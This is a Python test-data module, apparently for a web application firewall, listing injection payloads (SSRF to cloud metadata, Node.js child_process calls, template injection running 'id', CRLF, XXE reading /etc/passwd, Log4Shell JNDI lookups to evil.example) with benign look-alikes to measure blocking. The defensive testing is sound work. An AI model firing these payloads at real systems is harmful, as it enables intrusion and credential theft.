"""Attack and benign sets of the "generic" injection families (issue 15): SSRF, server-side
JavaScript and prototype pollution, template injection, CRLF / response splitting, XML external
entities, Log4Shell lookups, ORM lookup injection, and payloads carried in API formats (GraphQL in
a JSON body, SOAP, a JSON document whose strings hold the payload).

Written for this repository from each class's grammar (RFC 3986 authorities and inet_aton number
forms, template engines' tag syntax, RFC 7230 header fields, XML 1.0 DTDs, Log4j lookups), not
copied from any corpus. ``test_generic_sets.py`` sends every attack plain and in each gotestwaf-style
encoding and placement, and every benign value in every placement: attacks ≥ 95 % blocked per
family, no benign case blocked.
"""

# ruff: noqa: E501  -- payloads are data, one per line as sent.
from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

from tests.rules.placed_sets import PLACEMENTS as ENCODED_PLACEMENTS
from tests.rules.placed_sets import _place as place_encoded
from tests.rules.placed_sets import encode
from tests.rules.setkit import VALUE_PLACEMENTS, Body, Payload, Raw, cases

SSRF = (
    # Loopback, private and metadata hosts, in the number forms inet_aton accepts.
    "http://127.0.0.1/admin",
    "http://127.1/",
    "http://0/",
    "http://0.0.0.0:8080/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://0177.0.0.1/",
    "http://00000177.00000000.00000000.00000001/",
    "http://017700000001/",
    "http://127.0.0x0.1/",
    "http://3232235521/",
    "http://0xc0a80001/",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.10:2375/containers/json",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/",
    "http://0251.0376.0251.0376/",
    "http://169.254.43518/",
    "http://169.16689662/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[::1]:6379/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    # Other schemes of internal services, and the same hosts folded from Unicode look-alikes.
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://localhost:11211/stats",
    "ldap://127.0.0.1:389/dc=example",
    "tftp://10.0.0.2/config",
    "ssh://0177.0.0.1",
    "redis://0x7f000001:6379/",
    "smtp://127.1:25/",
    "irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
    "ftp://①②⑦.⓪.⓪.①/",
    "http://１２７.０.０.１/",
    "http://169。254。169。254/",
    "http://127｡0｡0｡1/",
    # Parser confusion: several "@", a missing "//", backslash-escaped hosts.
    "http://good.example:80 &@127.0.0.1:22/",
    "http://good.example@127.0.0.1/",
    "http://user:pass@localhost:8080/",
    "http://good.example:80#@10.0.0.1/",
    "http:2130706433",
    "http:0x7f000001/",
    "http:/127.0.0.1/",
    "http:127.0.0.1",
    "http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/",
    "http://localtest.me/",
    "http://app.127.0.0.1.nip.io/",
    "http://kubernetes.default.svc/api",
    "http://host.docker.internal:2375/",
    "http://[::]:80/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::1%25eth0]/",
    "http://127.000.000.001/",
    "http://localhost./",
    "http://0x7f.1/",
    "http://2130706433./",
    "http://①②⑦。⓪。⓪。①/",
    "http://127.1.1.1:80\\@127.2.2.2:80/",
    "http://7f000001.c0a80001.rbndr.us/",
    "http://metadata/computeMetadata/v1/",
    "http://0xa9.0xfe.0xa9.0xfe/",
    "//127.0.0.1/admin",
    "//localhost:8080/",
    "http://db.internal:5432/",
    "http://app.svc.cluster.local/",
    "https://10-0-0-1.sslip.io:8443/",
    "http://x7k2p9.oastify.com/",
    "https://c59e3crp82ke7bcnedq0cg8xfgyyyyyyb.oast.fun",
    "http://abc123.burpcollaborator.net/ssrf",
    "abc.dnslog.cn",
)

NODE = (
    "require('child_process').execSync('id')",
    "require(\"fs\").readFileSync('/etc/passwd')",
    "process.mainModule.require('child_process').exec('id')",
    "global.process.exit()",
    "this.constructor.constructor('return process')()",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    '{"__proto__": {"isAdmin": true}}',
    '{"constructor": {"prototype": {"polluted": 1}}}',
    "__proto__[admin]=1",
    "constructor[prototype][admin]=1",
    "a.__proto__.b=1",
    "Object.prototype.isAdmin=true",
    "console.log(1)",
    "console.info.call(this,1)",
    "alert.apply(null, [1])",
    "confirm.call(null,1)",
    "eval.call(null, 'process.exit()')",
    "setTimeout.apply(null, ['x()', 0])",
    "new Function('return process')()",
    "Function('return this')()",
    "while(true){}",
    "for(;;){}",
    "global['process']['mainModule']",
    "require.main.require('child_process')",
    "module.constructor._load('child_process')",
    "eval(\"require('os').userInfo()\")",
)

SSTI = (
    "{{7*7}}",
    "{{ 1337*1338 }}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% import os %}{{ os.system('id') }}",
    "{% if True %}49{% endif %}",
    "{%- if 1 -%}x{%- endif -%}",
    "<% if true %>49<% end %>",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#set($x = $class.inspect(\"java.lang.Runtime\"))",
    "{{ self.__init__.__globals__ }}",
    "{{ x|attr('__class__') }}",
    "a'+#{16*8787}+'b",
    "${{7*7}}",
    "[[${7*7}]]",
    "{{= 7*7 }}",
    "{{self}}",
    "{{ request }}",
    "{{ settings.SECRET_KEY }}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{dump(app)}}",
    "{{app.request.server.all|join(',')}}",
    "{{'a'.toUpperCase()}}",
    "${product.getClass().getProtectionDomain()}",
    "@(7*7)",
    "@{7*7}",
    "${{<%[%'\"}}%\\.",
)

CRLF = (
    "x\r\nSet-Cookie: admin=1",
    "%0d%0aSet-Cookie:crlf=injection",
    "/%0d%0aLocation:%20https://evil.example/",
    "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "x\r\n\r\n<script>alert(1)</script>",
    "a\nAccess-Control-Allow-Origin: *",
    "q\r\nRefresh: 0;url=https://evil.example/",
    "%E5%98%8A%E5%98%8DSet-Cookie:x=1",
)
# Header and request-line splitting where a URL carries it (in a body, a pasted request or header
# block in a support ticket is text; only response-splitting headers count there).
CRLF_URL = (
    "en\r\nX-Forwarded-Host: evil.example",
    "x%0d%0aX-Original-URL: /admin",
    "GET /admin HTTP/1.1",
    "%5e%98%8dSet-cookie:crlf=injection",
)

XXE = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>',
    '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r>a</r>',
    '<!DOCTYPE r PUBLIC "-//X//Y" "//evil.example/y"><r/>',
    '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY e SYSTEM "netdoc:/etc/hosts">]><r>&e;</r>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>',
)

LOG4SHELL = (
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://evil.example:1099/x}",
    "${jndi:dns://evil.example}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}",
    "${jndi:ldap://${env:USER}.evil.example/a}",
    "${${upper:j}ndi:ldaps://evil.example/a}",
    "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
    "${${date:'j'}ndi:ldap://evil.example/a}",
)

ORM = (
    "password__startswith=a",
    "user__password__regex=^pbkdf2",
    "secret_key__gte=a",
    "api_key__startswith=sk_",
    "reset_token__isnull=false",
    "created_by__user__username__startswith=a",
    "author__profile__email__iendswith=@corp.example",
    "owner__groups__name__regex=^adm",
    "data__has_key=is_admin",
    "metadata__has_keys=is_staff",
    "roles__contained_by=admin",
)

XPATH = (
    "'] | //user/*[contains(*,'",
    "')] | //* | //*[('",
    "x' or name()='username' or 'x'='y",
    "' or true() or '",
    "admin' or count(/*)=1 or 'a'='b",
    "x\" or string-length(//user[1]/password)>0 or \"",
    "//user[position()=1]/password",
    "//account[last()]/pin",
    "count(/child::node())",
    "//user/descendant::*",
)

LDAP_EXTENSIBLE = (
    "userPassword:2.5.13.18:=123",
    "cn:dn:=admin",
    "uid:1.3.6.1.4.1.1466.109.114.2:=root",
    "*)(userAccountControl:1.2.840.113556.1.4.803:=2",
)

GRAPHQL_INTROSPECTION = (
    "{ __schema { types { name } } }",
    "query IntrospectionQuery { __schema { queryType { name } mutationType { name } } }",
    '{ __type(name: "User") { fields { name type { name } } } }',
    "query{__schema{directives{name args{name}}}}",
)

# ---- benign look-alikes -------------------------------------------------------------------------
BENIGN = (
    # URLs real users and integrations send: redirects, webhooks, callbacks, public IP literals.
    "https://app.example.com/oauth/callback?code=abc123&state=xyz",
    "https://hooks.example.com/services/T000/B000/XXXX",
    "https://build-01.ci.example.com/job/42/console",
    "https://internal-docs.example.com/wiki/Onboarding",
    "https://intranet.example.org/hr/policies",
    "https://api.example.com/v1.2.3/items?limit=10",
    "https://cdn.example.net/assets/1.0.0.1/app.js",
    "https://example.com/redirect?to=https%3A%2F%2Fshop.example.com%2Fcart",
    "https://user@example.com/private/repo.git",
    "https://docs.example.com/guide#section-1.2.3",
    "mailto:support@example.com?subject=Order%2042",
    "tel:+15551234567",
    "git@github.com:org/repo.git",
    "postgres://app:secret@db.example.com:5432/shop",
    "redis://cache.example.com:6379/0",
    "Version 10.0.17763.1 is installed",
    "Call 0177 555 1234 after 6",
    "Build 2024.01.15 ran in 0x1f seconds",
    "The meeting is at 10.30 in room 0123",
    "Order ids 2130706433 and 3232235521 were refunded",
    "Our office is on floor ① near room ②",
    # Templates, code and prose that mention the same words.
    "Hello {{ user.name }}, your order {{ order.id }} has shipped",
    "{% for item in cart %}{{ item.title }}{% endfor %}",
    "{% if user.is_authenticated %}Welcome back{% endif %}",
    "<% if @user.admin? %>Admin<% end %>",
    "Total: ${ price } incl. VAT",
    "Use console.log(obj) to print the object, then check the network tab",
    "Why does console.error(err) print undefined in my handler?",
    "alert boxes are annoying; call me instead",
    "We apply the discount and call the supplier",
    "The process.env variables are read at start-up",
    "function names should be verbs",
    "Set-Cookie headers are explained in RFC 6265",
    "Location: Berlin, Germany",
    "The password field must start with a letter",
    "price__gte=100",
    "name__icontains=shoe",
    "user__id__exact=3",
    "created__date__gte=2024-01-01",
    "username__istartswith=jo",
    "author__profile__country=DE",
    "Our GraphQL schema is documented at /docs/schema",
    "query { user(id: 1) { name __typename } }",
    "The jndi lookup was disabled in log4j 2.17",
    "DOCTYPE html is the first line of every page",
    "ENTITY relationship diagrams for the shop",
    "//cdn.example.com/lib.js",
    "x = a // b",
    "https://medium.com/@someone/post-123",
    "https://maps.example.com/@52.5200,13.4050,12z",
    "https://example.com/redirect?next=/account&email=ann@example.com",
    "git: 0755 permissions",
    "Meet at 10.00 near gate 0177",
    "computeMetadata is a GCP concept",
    'Use driver.find_element(By.XPATH, "//div[@class=\'x\']") to locate it',
    "She wrote 'and contains(' in the doc",
    '"quoted"] | pipe',
    "Select //table/tr[2] in the XPath tester",
    "ratio 1:2.5 or 3:1",
    "Contact: sales@example.com; Cc: billing@example.com",
    "Привет, как дела? 你好 مرحبا नमस्ते 🎉",
    "{{ request.path }}",
    "{{ app.name }} v{{ app.version }}",
    "{% if request.user.is_staff %}staff{% endif %}",
    "@(Model.Name) in Razor",
    "Email me @(work) or @{home}",
    "{{#each items}}{{this}}{{/each}}",
    "count(/) is not valid",
    "$comment: this is a note",
    "https://hooks.internal.example.com/services/T1",
    "https://status.local.example.org/",
    "http://printer.localdomain.example.net/",
    "https://grafana.example.com/d/abc?var-host=web.internal",
    "https://portswigger.net/burp/documentation/collaborator",
    "Interact with us on https://example.com/interact",
)

GRAPHQL_QUERIES = (
    '{"query": "query GetUser($id: ID!) { user(id: $id) { id name email __typename } }", "variables": {"id": "42"}}',
    '{"operationName": "Search", "query": "query Search($q: String!) { search(term: $q, first: 10) { edges { node { id title } } } }", "variables": {"q": "wool OR linen"}}',
    '{"query": "mutation AddToCart($sku: String!, $qty: Int!) { addToCart(sku: $sku, qty: $qty) { cart { id total } } }", "variables": {"sku": "SKU-1", "qty": 2}}',
    '{"query": "subscription { orderUpdated(id: \\"7\\") { status } }"}',
    '{"query": "fragment UserParts on User { id name } query { me { ...UserParts } }"}',
    '{"query": "{ products(filter: {price_gte: 10, name_contains: \\"shoe\\"}) { id name price } }"}',
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "ssrf": SSRF,
    "nodejs": NODE,
    "ssti": SSTI,
    "crlf": CRLF,
    "crlf-url": CRLF_URL,
    "xxe": XXE,
    "log4shell": LOG4SHELL,
    "orm": ORM,
    "graphql-introspection": GRAPHQL_INTROSPECTION,
    "xpath": XPATH,
    "ldap-extensible": LDAP_EXTENSIBLE,
}
# A whole document or protocol text is not a value every placement carries: an XML DTD lands in a
# body or a parameter an app parses as XML; a line break cannot travel in a header; ORM lookups and
# GraphQL queries are parameter names and query documents.
_VALUE_ONLY = ("URLParam", "HTMLForm", "HTMLMultipartForm", "JSONRequest")
PLACEMENTS: dict[str, tuple[str, ...]] = {
    "xxe": _VALUE_ONLY,
    "crlf": (*_VALUE_ONLY, "URLPath"),
    "crlf-url": ("URLParam", "URLPath"),
    "orm": (),
    "graphql-introspection": (),
}
ENCODINGS: dict[str, tuple[str, ...]] = {
    # Which encodings reach an application decoding the carrier (see placed_sets): documents are
    # sent as they are, values in every encoding.
    "xxe": ("URL", "Base64"),
    "crlf": (),
    "crlf-url": (),
    "orm": (),
    "graphql-introspection": (),
}
# Families whose payloads are also carried inside API documents (GraphQL, SOAP, nested JSON).
API_CARRIED = ("ssrf", "nodejs", "ssti", "log4shell")


def _soap(value: str) -> str:
    text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return (
        '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
        f'<soap:Body><m:Lookup xmlns:m="urn:example:shop"><m:Term>{text}</m:Term></m:Lookup></soap:Body></soap:Envelope>'
    )


def api_documents(value: str) -> tuple[Body, ...]:
    """``value`` as a GraphQL variable, a GraphQL inline argument, a SOAP element, a string nested
    in a JSON:API document, the whole JSON body (one string) and a \\u-escaped string in nested
    arrays: where API clients put user input."""
    return (
        Body(json.dumps({"query": "query Search($q: String!) { search(term: $q) { id } }", "variables": {"q": value}})),
        Body(json.dumps({"query": "query { search(term: " + json.dumps(value) + ") { id } }"})),
        Body(_soap(value), "text/xml; charset=utf-8"),
        Body(json.dumps({"data": [{"type": "notes", "attributes": {"tags": ["a", value]}}]}, ensure_ascii=False)),
        Body(json.dumps(value)),
        Body('[{"n": 1}, ["' + encode("JSUnicode", value) + '"]]'),
    )


def _encoded(family: str, payloads: tuple[str, ...]) -> list[dict[str, Any]]:
    out = []
    for encoder in ENCODINGS.get(family, ("URL", "Base64", "Base64Flat", "JSUnicode", "XMLEntity")):
        for placement in ENCODED_PLACEMENTS[encoder]:
            if family in PLACEMENTS and placement not in (*PLACEMENTS[family], "RequestBody", "XMLBody"):
                continue
            for i, payload in enumerate(payloads):
                fields = place_encoded(placement, encode(encoder, payload), encoder)
                if fields is not None:
                    out.append({"id": f"own-generic/{family}/{encoder}/{placement}/{i}", "set": "own-generic",
                                "category": family, "family": family, "param": "q", "expect": "block",
                                "shape": f"{encoder}:{placement}", **fields})
    return out


def _as_parameters(family: str, payloads: tuple[str, ...]) -> tuple[Payload, ...]:
    if family == "orm":  # lookups are parameter / member names
        return (*(Raw(p) for p in payloads), *(Body(json.dumps({k: v})) for k, _, v in (p.partition("=") for p in payloads)))
    if family == "graphql-introspection":
        return (*(Raw("query=" + quote(q)) for q in payloads), *(Body(json.dumps({"query": q})) for q in payloads))
    if family == "xxe":
        return (*payloads, *(Body(p, "application/xml") for p in payloads))
    return payloads


def attack_cases() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for family, payloads in FAMILIES.items():
        out += cases("own-generic", family, _as_parameters(family, payloads), "block", PLACEMENTS.get(family, VALUE_PLACEMENTS))
        out += _encoded(family, payloads)
    for family in API_CARRIED:
        docs = tuple(doc for p in FAMILIES[family] for doc in api_documents(p))
        out += cases("own-generic", f"api-{family}", docs, "block")
    return out


def benign_cases() -> list[dict[str, Any]]:
    docs = tuple(doc for v in BENIGN for doc in api_documents(v))
    graphql = (*(Body(q) for q in GRAPHQL_QUERIES), *(Raw("query=" + quote(json.loads(q)["query"])) for q in GRAPHQL_QUERIES))
    return [
        *cases("own-generic-benign", "benign", BENIGN, "allow"),
        *cases("own-generic-benign", "benign", docs, "allow", part="api"),
        *cases("own-generic-benign", "benign", graphql, "allow", part="graphql"),
    ]
